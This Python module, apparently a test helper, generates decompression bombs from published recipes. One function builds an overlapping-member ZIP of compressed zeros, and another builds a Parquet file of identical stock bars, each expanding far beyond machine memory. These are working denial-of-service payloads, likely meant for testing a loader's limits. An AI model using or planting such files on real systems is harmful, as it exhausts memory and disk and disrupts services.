"""Small files that unpack to much more than a machine holds, made by their published recipes."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")
_DEFLATE = 8


def overlapping_zip(members: int, kernel_bytes: int) -> bytes:
    """Return a ZIP whose members all run on into one block of compressed zeros.

    Each member but the last quotes the header of the next one in a stored block of deflate:
    https://www.bamsoftware.com/hacks/zipbomb/, "quoted-overlap".
    """
    deflate = zlib.compressobj(9, wbits=-15)
    packed = deflate.compress(bytes(kernel_bytes)) + deflate.flush()
    inflated = bytes(kernel_bytes)
    directory: list[bytes] = []
    behind = len(packed)
    for number in reversed(range(members)):
        name = f"{number:05}.csv".encode()
        sizes = zlib.crc32(inflated), len(packed), len(inflated), len(name)
        header = _LOCAL.pack(b"PK\x03\x04", 20, 0, _DEFLATE, 0, 0, *sizes, 0) + name
        behind = len(packed) + len(header)
        entry = (b"PK\x01\x02", 20, 20, 0, _DEFLATE, 0, 0, *sizes, 0, 0, 0, 0, 0, behind)
        directory.insert(0, _CENTRAL.pack(*entry) + name)
        quote = struct.pack("<BHH", 0, len(header), 0xFFFF ^ len(header))
        packed, inflated = quote + header + packed, header + inflated
    body = packed[len(quote) :]
    entries = b""
    for entry in directory:  # so far, the offset is the distance from the end
        (from_end,) = struct.unpack_from("<L", entry, _CENTRAL.size - 4)
        offset = struct.pack("<L", len(body) - from_end)
        entries += entry[: _CENTRAL.size - 4] + offset + entry[_CENTRAL.size :]
    end = _END.pack(b"PK\x05\x06", 0, 0, members, members, len(entries), len(body), 0)
    return body + entries + end


def repeating_parquet(rows: int, groups: int) -> bytes:
    """Return bars of one symbol, date and price, told in a few bytes for each row group.

    A dictionary of one value and one run of its index stand for all rows of a group, as in
    https://duckdb.org/2024/03/26/42-parquet-a-zip-bomb-for-the-big-data-age.html.
    """
    same = pa.array(np.full(rows, 10.5))
    table = pa.table(
        {
            "symbol": pa.DictionaryArray.from_arrays(np.zeros(rows, np.int8), ["A"]),
            "date": pa.array(np.full(rows, 20186, np.int32)).cast(pa.date32()),
            **dict.fromkeys(("open", "high", "low", "close", "volume"), same),
        }
    )
    buffer = io.BytesIO()
    with pq.ParquetWriter(buffer, table.schema, compression="zstd") as writer:
        for _ in range(groups):
            writer.write_table(table, row_group_size=rows)
    return buffer.getvalue()
